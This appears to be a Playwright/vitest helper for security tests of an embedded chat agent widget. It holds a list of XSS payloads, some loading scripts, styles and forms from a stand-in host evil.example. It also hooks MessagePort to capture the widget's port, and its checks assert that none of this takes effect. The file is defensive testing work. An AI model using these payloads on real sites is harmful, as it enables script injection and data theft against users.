import type { Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, expect } from 'vitest'
import {
  type ChatPageOptions,
  type ChatService,
  type SiteTool,
  startChatService,
  visitChat,
  write,
} from './chat-page.ts'
import { frameOf } from './shop.ts'

export const evil = 'https://evil.example'
export const attacks = [
  '<img src=x onerror="top.pwned=1;window.pwned=1">',
  `<script>window.pwned=1</script><script src="${evil}/x.js"></script>`,
  '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName=x dur=1s>',
  `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="${evil}/o"></object>`,
  `<style>@import "${evil}/s.css"; * { background: url(${evil}/b.png) }</style><link rel=stylesheet href=${evil}/l.css>`,
  `<form action="${evil}/f"><button autofocus onfocus="window.pwned=1">Allow once</button></form>`,
  `<a href="javascript:window.pwned=1" id=location name=pwned>click</a><base href="${evil}/">`,
  '<details open ontoggle="window.pwned=1"><summary>x</summary></details><math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
]
export const html = attacks.join('\n')

export const answered = (page: Page) => frameOf(page).locator('[data-status="succeeded"]').last().waitFor()

export const tool = (changes: Partial<SiteTool> = {}): SiteTool => ({
  name: 'change',
  title: 'Change it',
  description: 'Changes it',
  inputSchema: { type: 'object', properties: { text: { type: 'string' } } },
  ...changes,
})

export const approval = (page: Page) => frameOf(page).locator('.approval')
export const allow = (page: Page) => approval(page).getByRole('button', { name: 'Allow once' })
export const ran = (page: Page) => page.evaluate<{ name: string; input: unknown }[]>('window.ran')

/** The widget's element with the frame, and the panel around it, in the page. */
export const inFrame = `document.querySelector('inlay-agent').shadowRoot.querySelector('iframe')`
export const inPanel = `${inFrame}.parentNode`

/** A chat for the tests of a file, whose model and pages attack its users. */
export function useAttackedChat() {
  let app: ChatService
  beforeAll(async () => {
    app = await startChatService()
  })
  afterAll(() => app.close())

  /** Visits, and records everything that must not happen. */
  async function visit(options: ChatPageOptions = {}) {
    const initScript = `${options.initScript ?? ''}
      // As a page can that runs before the widget's script.
      const { postMessage } = MessagePort.prototype
      MessagePort.prototype.postMessage = function (...given) {
        window.port = this
        return postMessage.apply(this, given)
      }
      window.violations = []
      addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        violations.push(violatedDirective + ' ' + blockedURI))`
    const hosts = new Set<string>()
    const dialogs: string[] = []
    const page = await visitChat(app, { viewport: { width: 1000, height: 800 }, ...options, initScript })
    page.on('request', (request) => hosts.add(new URL(request.url()).host))
    page.context().on('page', (opened) => dialogs.push(opened.url()))
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    return { page, hosts, dialogs }
  }

  const frameIn = (page: Page): Frame => {
    const frame = page.frames().find((each) => each.url().startsWith(`${app.url}/embed/`))
    if (!frame) throw new Error('There is no frame')
    return frame
  }

  async function expectNothing({ page, hosts, dialogs }: Awaited<ReturnType<typeof visit>>): Promise<void> {
    const frame = frameIn(page)
    const signs = await Promise.all(
      [page.mainFrame(), frame].map((each) => each.evaluate('[typeof window.pwned, window.violations]')),
    )
    expect(signs).toEqual([
      ['undefined', []],
      ['undefined', []],
    ])
    expect(dialogs).toEqual([])
    const ours = [new URL(app.url).host, new URL(page.url()).host]
    expect(
      [...hosts].filter((host) => host !== '' && !ours.includes(host)),
      'no other host is asked',
    ).toEqual([])
    const dangerous =
      'script, iframe, object, embed, img, video, audio, style, link, base, form, math, [srcdoc], [style]'
    const attributes = `[...document.querySelectorAll('body *')].flatMap((element) => [...element.attributes])
      .map(({ name }) => name).filter((name) => name.startsWith('on') || name === 'src')`
    expect(await frame.evaluate(`document.querySelectorAll(${JSON.stringify(`body :is(${dangerous})`)}).length`)).toBe(
      0,
    )
    expect(await frame.evaluate(attributes)).toEqual([])
  }

  /** The model calls the tool, and then says that it's done. */
  const callOnce = (name: string, args: unknown) =>
    app.model.follow(({ messages }) =>
      messages.at(-1)?.role === 'tool' ? { text: ['Finished'] } : { calls: [{ name, args }] },
    )

  /** A question that the user is asked, and where its button is. */
  async function ask() {
    callOnce('change', { text: 'x' })
    const visited = await visit({ tools: [tool()], reducedMotion: 'reduce' })
    await write(visited.page, 'Change')
    await allow(visited.page).click({ trial: true })
    const box = await allow(visited.page).boundingBox()
    if (!box) throw new Error('The button isn’t visible')
    return { ...visited, at: { x: box.x + box.width / 2, y: box.y + box.height / 2 } }
  }

  return { ask, callOnce, expectNothing, frameIn, service: () => app, visit }
}
